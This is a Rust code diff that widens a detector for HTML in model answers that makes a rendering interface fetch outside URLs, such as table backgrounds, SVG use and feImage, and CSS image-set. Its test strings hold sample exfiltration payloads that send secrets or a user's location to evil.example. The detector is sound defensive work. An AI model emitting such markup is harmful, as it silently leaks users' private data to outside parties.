@@ -22,7 +22,7 @@ static META: Meta = Meta {
     label: "HTML",
     docs: Docs {
         finds: "`a`, `img`, `iframe`, `link`, `object`, `embed`, `video`, `audio`, `source`, `track`, `input`, `image`, `body` \
-                and CSS `url(…)` or `@import` with data in the URL; `script` with any `src`; `form` and `formaction` to \
+                tables, SVG's `use` and `feImage`, and CSS `url(…)`, `image-set(…)` or `@import` with data in the URL; `script` with any `src`; `form` and `formaction` to \
                 another host; `base` and `meta refresh` with another host.",
         matters: "Interfaces that render HTML fetch these by themselves; an answer becomes a message to a stranger.",
         example: "`<img src=\"https://evil.example/?d={secret}\">` becomes `<HTML_1>`.",
@@ -46,6 +46,9 @@ static META: Meta = Meta {
         "<a href=\"https://evil.example/?x=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIgYW5kIG1vcmU\">more</a>",
         "<a href=\"/about\" ping='https://evil.example/?u=<EMAIL_ADDRESS_1>'>about</a>",
         "&lt;img src=&quot;https://evil.example/p.png?q={data}&quot;&gt;",
+        "<table background=\"https://evil.example/p.png?q={data}\"><td>x</table>",
+        "<div style='background: image-set(\"https://evil.example/p.png?q={data}\" 1x)'>",
+        "<img src=\"https:\\\\evil.example\\p.gif?d=the+user+lives+in+Springfield\">",
     ],
     passes: &[
         "<img src=\"https://cdn.example.com/logo.png\" alt=\"Logo\">",
@@ -78,14 +81,14 @@ enum Deed {
 /// A tag, its attributes with a URL, what happens, and how bad it is.
 type Loader = (&'static str, &'static [&'static str], Deed, f32);
 
-const TAGS: [Loader; 18] = [
+const TAGS: [Loader; 26] = [
     ("<a", &["href", "ping"], Deed::Follows, 0.7),
-    ("<img", &["src", "srcset", "data-src", "lowsrc"], Deed::Loads, 0.9),
+    ("<img", &["src", "srcset", "data-src", "lowsrc", "dynsrc"], Deed::Loads, 0.9),
     ("<image", &["href", "xlink:href", "src"], Deed::Loads, 0.9),
     ("<iframe", &["src"], Deed::Loads, 0.9),
     ("<frame", &["src"], Deed::Loads, 0.9),
     ("<script", &["src", "href", "xlink:href"], Deed::Reaches, 0.8),
-    ("<link", &["href"], Deed::Loads, 0.8),
+    ("<link", &["href", "imagesrcset"], Deed::Loads, 0.8),
     ("<object", &["data"], Deed::Loads, 0.9),
     ("<embed", &["src"], Deed::Loads, 0.9),
     ("<video", &["src", "poster"], Deed::Loads, 0.8),
@@ -94,13 +97,21 @@ const TAGS: [Loader; 18] = [
     ("<track", &["src"], Deed::Loads, 0.8),
     ("<input", &["src"], Deed::Loads, 0.8),
     ("<body", &["background"], Deed::Loads, 0.8),
+    ("<table", &["background"], Deed::Loads, 0.8),
+    ("<thead", &["background"], Deed::Loads, 0.8),
+    ("<tbody", &["background"], Deed::Loads, 0.8),
+    ("<tr", &["background"], Deed::Loads, 0.8),
+    ("<td", &["background"], Deed::Loads, 0.8),
+    ("<th", &["background"], Deed::Loads, 0.8),
+    ("<feimage", &["href", "xlink:href"], Deed::Loads, 0.8),
+    ("<use", &["href", "xlink:href"], Deed::Loads, 0.8),
     ("<form", &["action"], Deed::Reaches, 0.7),
     ("<base", &["href"], Deed::Reaches, 0.8),
     ("<meta", &["content"], Deed::Refreshes, 0.8),
 ];
 
 /// Anchors that are no tags: of CSS, and an attribute that redirects a form.
-const OTHERS: [&str; 3] = ["url(", "@import", "formaction"];
+const OTHERS: [&str; 4] = ["url(", "image-set(", "@import", "formaction"];
 
 impl Detector for HtmlLoader {
     fn meta(&self) -> &'static Meta {
@@ -148,7 +159,7 @@ fn matters(tag: &Tag<'_>, attributes: &[&str], deed: Deed) -> bool {
     let mut urls = attributes.iter().flat_map(|name| {
         let value = tag.get(name).unwrap_or_default().trim_ascii();
         // A set of pictures is a list of URLs, each with a size.
-        let listed = *name == "srcset";
+        let listed = name.ends_with("srcset");
         value.split(move |byte| listed && matches!(byte, b' ' | b'\t' | b'\n' | b'\r' | b','))
     });
     match deed {
@@ -174,7 +185,7 @@ fn other(bytes: &[u8], hit: &Hit, cursor: &mut Cursor<'_>) -> Option<(usize, usi
     }
     let spaces = cursor.spaces(4);
     match *kind {
-        "url(" => {}
+        "url(" | "image-set(" => {}
         // `@import url(` is found by its `url(`.
         "@import" if spaces > 0 => {}
         "formaction" if cursor.eat(b'=') => {
